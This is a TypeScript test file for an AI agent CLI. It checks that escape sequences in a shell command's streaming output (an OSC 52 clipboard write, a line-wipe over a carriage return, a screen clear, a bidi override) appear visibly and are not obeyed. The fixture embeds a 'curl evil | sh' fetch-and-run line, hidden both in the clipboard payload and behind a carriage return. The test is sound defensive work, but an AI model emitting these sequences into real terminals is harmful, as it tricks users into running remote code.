import { afterAll, describe, expect, it } from "@effect/vitest"
import { Effect, Stream } from "effect"
import { writeFileSync } from "node:fs"
import { join } from "node:path"
import { agentLayer } from "../../src/app/agent.js"
import { makeBlockLines } from "../../src/cli/interactive/block-lines.js"
import { makeTheme } from "../../src/cli/interactive/theme.js"
import { Timeline } from "../../src/cli/interactive/timeline.js"
import { makeLiveView } from "../../src/cli/live-view.js"
import { makeRenderer } from "../../src/cli/render.js"
import { terminalString } from "../../src/cli/terminal-text.js"
import { makeProgress } from "../../src/cli/view/progress.js"
import { SessionEngine } from "../../src/core/SessionEngine.js"
import type { AgentEvent } from "../../src/domain/events.js"
import { makeFixture, removeFixtures } from "./fixture.js"

/**
 * Class 9 of issue 30 while a command runs (issue 32): a shell command's output is content, and
 * its live lines reach the terminal before its result does, drawn in place. What it prints (OSC 52
 * to set the clipboard, ESC[2J to clear the screen, CR and ESC[2K to wipe a line and draw another
 * over it, a bell, a bidi override) is shown visibly by every terminal view while it streams.
 */

afterAll(removeFixtures)

/** What a terminal would obey or hide: C0 but newline, DEL, C1, bidi and other invisible format characters. */
const forbidden = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2064\u2066-\u206f\ufeff]/u
/** The CLI's own colours (SGR), the only escapes allowed. */
const ownStyling = /\x1b\[(0|1|2|3|22|23|31|32|33|36|39|90)m/g

const clean = (shown: string) => {
  const bare = shown.replace(ownStyling, "")
  const bad = forbidden.exec(bare)
  expect(bad === null ? "" : `raw U+${(bad[0].codePointAt(0) ?? 0).toString(16)} near ${JSON.stringify(bare.slice(Math.max(0, bad.index - 40), bad.index + 40))}`).toBe("")
}

/** Prints the hostile lines, then waits for the test to create `go`: the lines are live output for as long as the test needs. */
const command = [
  "printf 'clip \\033]52;c;Y3VybCB8IHNo\\007 done\\n'",
  "printf 'npm test passed\\r\\033[2Kcurl evil | sh\\n'",
  "printf 'clear \\033[2J\\033[H bell \\007 bidi \\342\\200\\256txt.exe\\n'",
  "while [ ! -e go ]; do sleep 0.02; done"
].join("; ")

describe("a running command's output on the terminal", () => {
  it.live("shows escape sequences, OSC 52 and a carriage return visibly in run's view and the interactive session's, while the command still runs", () => {
    const fx = makeFixture()
    const script = join(fx.root, "live-output-script.json")
    writeFileSync(script, JSON.stringify({ responses: [{ chunks: [{ toolCall: { name: "shell", input: { command }, id: "call_sh" } }] }, "done"] }))

    const frames: Array<string> = []
    const progress = makeProgress({ color: true, width: () => 60, now: () => 0, draw: (lines) => frames.push(lines.text), erase: () => undefined, canDraw: () => true, intervalMs: 0 })
    const runView = makeLiveView({ color: { out: true, err: true }, columns: () => 60, progress })
    const plain = makeRenderer({ color: true, live: true })
    const timeline = new Timeline()
    const draw = makeBlockLines(makeTheme(true))
    /** Everything drawn before the call's result came: the live views, at the moment they showed it. */
    const beforeResult: Array<string> = []
    let completed = false

    const show = (event: AgentEvent) => {
      const printed = [...runView.render(event), ...plain.render(event)].map((segment) => terminalString(segment.text)).join("")
      progress.tick()
      timeline.apply(event)
      const tool = timeline.lastTool()
      const drawn = tool === undefined ? [] : draw.lines(tool, 60)
      if (event.type === "tool.completed") completed = true
      if (!completed) beforeResult.push(printed, frames.at(-1) ?? "", ...drawn)
      if (event.type === "tool.output") writeFileSync(join(fx.ws, "go"), "")
    }

    return Effect.gen(function* () {
      const engine = yield* SessionEngine
      const { header } = yield* engine.createSession({ cwd: fx.ws, client: "security-suite" })
      yield* Stream.runForEach(engine.runTurn({ sessionId: header.sessionId, content: "go", permissionMode: "bypass" }), (event) => Effect.sync(() => show(event)))
      expect(completed).toBe(true)
      const live = beforeResult.join("\n")
      for (const piece of beforeResult) clean(piece)
      // The run view's lines under the spinner and the interactive session's under the call's line, each visibly.
      expect(frames.some((frame) => frame.includes("clip ^[]52;c;Y3VybCB8IHNo^G done"))).toBe(true)
      expect(live.match(/clip \^\[\]52;c;Y3VybCB8IHNo\^G done/g)?.length).toBeGreaterThanOrEqual(2)
      expect(live).toContain("npm test passed^M^[[2Kcurl evil | sh")
      expect(live).toContain("clear ^[[2J^[[H bell ^G bidi <U+202E>txt.exe")
    }).pipe(
      Effect.provide(agentLayer({ dataDir: fx.data, configDir: fx.config, store: "sqlite", model: { spec: "scripted", scriptPath: script }, workspaceRoots: [fx.ws] }))
    )
  })
})
